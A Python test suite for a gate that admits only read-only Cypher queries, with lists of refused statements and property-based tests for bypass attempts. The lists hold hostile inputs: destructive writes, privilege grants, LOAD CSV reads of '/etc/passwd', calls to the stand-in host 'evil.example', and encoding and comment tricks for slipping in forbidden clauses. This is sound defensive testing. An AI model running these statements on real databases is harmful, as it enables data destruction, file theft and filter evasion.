"""The gate for Cypher: what only reads passes, whatever else is refused however it is dressed up."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from graph.cypher_gate import demand_reading
from graph.free_cypher import free_cypher
from graph.store import Dataset
from model.errors import QueryError
from queries.questions import list_questions

WRITES = [
    "CREATE (n:Board {iri: 'x'})",
    "create (n)",
    "MATCH (n) SET n.name = 'x'",
    "MATCH (n) SET n:Other RETURN n",
    "MATCH (n) REMOVE n.name",
    "MATCH (n) DELETE n",
    "MATCH (n) DETACH DELETE n",
    "MATCH (n) NODETACH DELETE n",
    "MERGE (n:Board {iri: 'x'}) ON CREATE SET n.name = 'y'",
    "MATCH (n) WITH n FOREACH (x IN [1] | SET n.a = x)",
    "FOREACH (x IN [1] | CREATE (:X))",
    "INSERT (:Board {iri: 'x'})",
    "DROP TABLE Board",
    "DROP CONSTRAINT samverkan_iri",
    "CREATE INDEX x FOR (n:Board) ON (n.name)",
    "CREATE NODE TABLE X(iri STRING PRIMARY KEY)",
    "CREATE USER mallory SET PASSWORD 'x'",
    "ALTER TABLE Board ADD x INT64",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'",
    "GRANT ROLE admin TO mallory",
    "RENAME USER a TO b",
    "MATCH (n) RETURN n; MATCH (n) DELETE n",
    "MATCH (n) CALL { WITH n CREATE (:X) } RETURN n",
    "CALL { CREATE (n) RETURN n } RETURN n",
    "MATCH (n) CALL (n) { SET n.x = 1 } IN TRANSACTIONS OF 10 ROWS",
    "MATCH (n) WHERE EXISTS { CREATE (m) } RETURN n",
    "RETURN COUNT { MATCH (n) DELETE n }",
    "RETURN 1.SET n.x = 1",
    "RETURN 1 AS x SET x = 2",
    "MATCH (n) WITH n AS `SET` SET n.x = 1",
    "EXPLAIN CREATE (n)",
    "PROFILE MATCH (n) SET n.x = 1",
    "CYPHER runtime=slotted CREATE (n)",
    "BEGIN TRANSACTION",
    "COMMIT",
    "CHECKPOINT",
]
FILES_AND_NETWORK = [
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM 'http://evil.example/x' AS line RETURN line",
    "LOAD FROM '/etc/passwd' RETURN *",
    "LOAD FROM '/etc/passwd' (file_format='csv') RETURN *",
    "MATCH (n) LOAD CSV FROM 'http://evil.example/' + n.name AS x RETURN x",
    "USING PERIODIC COMMIT LOAD CSV FROM 'x' AS l CREATE (n)",
    "COPY Board FROM '/etc/passwd'",
    "COPY (MATCH (n) RETURN n.iri) TO '/tmp/x.csv'",
    "EXPORT DATABASE '/tmp/x'",
    "IMPORT DATABASE '/tmp/x'",
    "ATTACH '/tmp/x.db' AS x (dbtype sqlite)",
    "DETACH x",
    "INSTALL httpfs",
    "LOAD EXTENSION httpfs",
    "UNINSTALL httpfs",
    "LOAD httpfs",
    "USE other MATCH (n) RETURN n",
    "USE graph.byName('x') MATCH (n) RETURN n",
    "RETURN read_csv_serial('/etc/passwd')",
]
PROCEDURES = [
    "CALL apoc.load.json('http://evil.example/') YIELD value RETURN value",
    "CALL apoc.cypher.doIt('CREATE (n)', {}) YIELD value RETURN value",
    "CALL apoc.export.csv.all('/tmp/x', {})",
    "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n)', {})",
    "RETURN `apoc`.`load`.`json`('http://evil.example/')",
    "RETURN `apoc.load.json`('http://evil.example/')",
    "CALL `db`.`create`.`setNodeVectorProperty`(1, 'a', [1])",
    "CALL dbms.security.createUser('a', 'b', false)",
    "CALL dbms.listConfig() YIELD name, value RETURN *",
    "CALL dbms.listConfig",
    "CALL db.createLabel('X')",
    "CALL db.labels() YIELD label CALL apoc.nodes.delete([1], 1) YIELD value RETURN value",
    "CALL threads=1",
    "CALL timeout=0 RETURN 1",
    "CALL clear_warnings()",
    "CALL project_graph('g', ['Board'], ['SERVES'])",
    "MATCH (n) RETURN gds.util.asNode(0)",
    "SHOW USERS",
    "SHOW TRANSACTIONS",
    "TERMINATE TRANSACTION 'x'",
    "RETURN error('x')",
    "RETURN nextval('s')",
]
TRICKS = [
    "MATCH (n) /* MATCH */ SET n.x = 1",
    "MATCH (n) // a\nSET n.x = 1",
    "MATCH (n) // a\rSET n.x = 1",
    "MATCH (n) /* a // b */ DELETE n",
    "MATCH (n) \\u0053ET n.x = 1",
    "MATCH (n) RETURN '\\u0027 SET n.x = 1 //'",
    "MATCH (n) S\\u0045T n.x = 1",
    "RETURN 'it\\'s' SET n.x = 1 //'",
    'RETURN "a\\" CREATE (n) //"',
    "MATCH (n)\u00a0SET n.x = 1",
    "MATCH (n)\u2003DELETE n",
    "MATCH (n)\x0bDELETE n",
    "MATCH (n)\u2028DELETE n",
    "MATCH (n) \u017fET n.x = 1",
    "MATCH (n) \uff33\uff25\uff34 n.x = 1",
    "MATCH (n) RETURN n /* unclosed",
    "MATCH (n) RETURN 'unclosed",
    "MATCH (n) RETURN `unclosed",
    "RETURN 1 AS count LOADED csv",
    "WITH 1 AS order RETURN order BREW coffee",
    "MATCH (n) RETURN n BREW coffee",
    "MATCH (n) BREW (coffee)",
    "RETURN * BREW coffee",
    "WITH * BREW coffee",
    "RETURN 1 2",
    "RETURN $x",
    "RETURN (1",
    "RETURN 1)",
    "RETURN [1}",
    "RETURN " + "(" * 60 + "1" + ")" * 60,
    "RETURN '" + "x" * 20_000 + "'",
    "",
    ";",
    "/* only a comment */",
]
ATTACKS = WRITES + FILES_AND_NETWORK + PROCEDURES + TRICKS

READS = [
    "MATCH (b:Board) RETURN b.name ORDER BY b.name DESC SKIP 1 LIMIT 5",
    "MATCH (g:Grant) RETURN sum(g.amountApplied) AS total;",
    "match (a)-[r:PARTICIPATES_IN]->(b) where 'member' in r.roles return count(*) as n",
    "MATCH (a:Board) OPTIONAL MATCH (a)<-[:SERVES]-(b) RETURN a.name, collect(DISTINCT b.name)",
    "MATCH (a:Board) WHERE NOT EXISTS { MATCH (a)-[:PARTICIPATES_IN]->() } RETURN a.name",
    "MATCH p = (a:Board)-[* SHORTEST 1..4]-(b:Company) RETURN length(p) LIMIT 1",
    "MATCH (e:Evidence) WHERE e.lineStart >= 3 AND NOT e.lineEnd = 4 OR e.quote CONTAINS 'x' RETURN e.`end`, e.start",
    "UNWIND [1, 2.5, -3e2] AS x WITH x WHERE x > 1 RETURN CASE WHEN x > 2 THEN 'CREATE' ELSE \"DELETE\" END AS word",
    "RETURN 'SET // no comment /* either' AS `DROP`, {a: 1, b: NULL} AS m, [1, 2, 3][0..2] AS l",
    "MATCH (n:Board) RETURN n.name /* CREATE (x) */ UNION ALL MATCH (n:Company) // DELETE\n RETURN n.name",
    "CALL show_tables() RETURN *",
    "MATCH (c:`Case`) RETURN c.name",
    "MATCH (n:Area|Unit) RETURN n.name AS ort, n.`set` IS NOT NULL AS åäö",
]
SYNTAX_ONLY = [
    "CALL db.labels() YIELD label RETURN label",
    "MATCH (n) CALL (n) { MATCH (n)-->(m) RETURN count(m) AS k } RETURN n, k",
    "MATCH p = shortestPath((a:Board)-[*1..6]-(b:Unit)) RETURN [x IN nodes(p) | x.name]",
    "MATCH (n) WHERE any(x IN n.otherNames WHERE x STARTS WITH 'K') RETURN n.name ORDER BY n.name ASC",
    "MATCH (n:Board) RETURN COUNT { MATCH (n)-->() } AS grad, toLower(n.name) AS namn",
]


def test_there_are_enough_attacks() -> None:
    """Each once, and at least sixty."""
    assert len(set(ATTACKS)) == len(ATTACKS) >= 60


@pytest.mark.parametrize("statement", ATTACKS)
def test_attack_is_refused(statement: str) -> None:
    """Before any engine sees it, with a sentence."""
    with pytest.raises(QueryError, match=r"\.$"):
        demand_reading(statement)


@pytest.mark.parametrize("statement", READS)
def test_reading_passes_and_is_answered(dataset: Dataset, statement: str) -> None:
    """The gate goes by what a statement means, not by frightening words in it."""
    if "`set`" not in statement:
        free_cypher(dataset, statement)
    assert "CREATE (x)" not in demand_reading(statement)


@pytest.mark.parametrize("statement", SYNTAX_ONLY)
def test_what_only_neo4j_understands_passes_too(statement: str) -> None:
    """Subqueries, comprehensions and its procedures that tell the schema."""
    assert demand_reading(statement) == statement


def test_the_named_questions_pass(dataset: Dataset) -> None:
    """Whoever sees a question's text can paste it, with values in place of the parameters."""
    texts = [question.cypher for question in list_questions() if question.cypher]
    assert texts
    for text in texts:
        demand_reading(re.sub(r"\$\w+", "'x'", text))


FORBIDDEN_CLAUSES = [
    "CREATE (x)", "MERGE (x)", "SET n.x = 1", "DELETE n", "DETACH DELETE n", "REMOVE n.x", "DROP TABLE Board",
    "FOREACH (x IN [1] | SET n.x = x)", "LOAD CSV FROM 'x' AS x", "LOAD FROM 'x'", "COPY Board FROM 'x'",
    "EXPORT DATABASE 'x'", "IMPORT DATABASE 'x'", "ATTACH 'x' AS y", "INSTALL httpfs", "USE x",
    "CALL apoc.load.json('x') YIELD value", "CALL { CREATE (x) }", "INSERT (x)", "ALTER TABLE Board DROP x",
]  # fmt: skip
GAPS = [" ", "\n", "\t", "\r\n", " /* a */ ", " // a\n", "/**/", "  /* ' */ ", " /* ` */\n"]
BEFORE = [
    "MATCH (n)",
    "MATCH (n) WHERE n.x = 'a'",
    "WITH 1 AS n",
    "UNWIND [1] AS n",
    "MATCH (n) RETURN n",
    "",
]
AFTER = ["", "RETURN n", "RETURN 1 AS x", "UNION MATCH (n) RETURN n", "// a"]


@given(st.data())
def test_no_dress_hides_a_forbidden_clause(data: st.DataObject) -> None:
    """Any case, any comments and spaces between the words, before and after other clauses."""
    words = data.draw(st.sampled_from(FORBIDDEN_CLAUSES)).split(" ")
    first = "".join(data.draw(st.sampled_from([letter.upper(), letter.lower()])) for letter in words[0])
    parts = [data.draw(st.sampled_from(BEFORE)), first, *words[1:], data.draw(st.sampled_from(AFTER))]
    statement = "".join(part + data.draw(st.sampled_from(GAPS)) for part in parts)
    with pytest.raises(QueryError):
        demand_reading(statement)


@given(st.sampled_from(WRITES + FILES_AND_NETWORK + PROCEDURES), st.data())
def test_no_change_of_one_character_opens_the_gate_to_a_clause(attack: str, data: st.DataObject) -> None:
    """A character put into an attack or taken from it: refused, or no forbidden word is left outside quotes."""
    place = data.draw(st.integers(0, len(attack)))
    sign = data.draw(
        st.sampled_from(
            ["", "'", '"', "`", "/", "*", "\\", "\n", "\r", ";", "$", ".", ":", "{", "}", "\u00a0"]
        )
    )
    changed = attack[:place] + sign + attack[place + (sign == "") :]
    try:
        passed = demand_reading(changed)
    except QueryError:
        return
    bare = re.sub(r"'[^']*'|\"[^\"]*\"|`[^`]*`", " ", passed)
    assert not re.search(
        r"\b(CREATE|SET|DELETE|MERGE|REMOVE|DROP|LOAD|COPY|INSTALL|USE|FOREACH|apoc)\b", bare, re.I
    )


@given(st.text(max_size=80))
def test_any_text_is_refused_with_a_sentence_or_passes(text: str) -> None:
    """Whatever is typed: never another error."""
    try:
        demand_reading("MATCH (n) " + text)
    except QueryError as error:
        assert str(error).endswith(".")


@pytest.mark.parametrize(
    ("statement", "sentence"),
    [
        ("MATCH (n)\nSET n.x = 1", "rad 2, tecken 1: SET läser inte bara; ett namn skrivs inom `…`."),
        ("MATCH (n) RETURN n; RETURN 1", "rad 1, tecken 19: bara en sats åt gången."),
        ("CALL apoc.help('x')", "tecken 6: CALL apoc.help får inte användas."),
        ("DROP TABLE Board", "Bara frågor som läser kan ställas"),
        ("MATCH (n) RETURN", "RETURN är ett ord i språket"),
        ("MATCH (n) RETURN 'a' AS order", "ORDER är ett ord i språket; ett namn skrivs inom `…`."),
        ("MATCH (n RETURN n", "saknar ) på slutet."),
        ("RETURN '\\u0041'", "teckenkoder"),
    ],
)
def test_the_sentence_tells_the_place_and_the_reason(statement: str, sentence: str) -> None:
    """Line, character, and what to do instead."""
    with pytest.raises(QueryError) as caught:
        demand_reading(statement)
    assert sentence in str(caught.value)
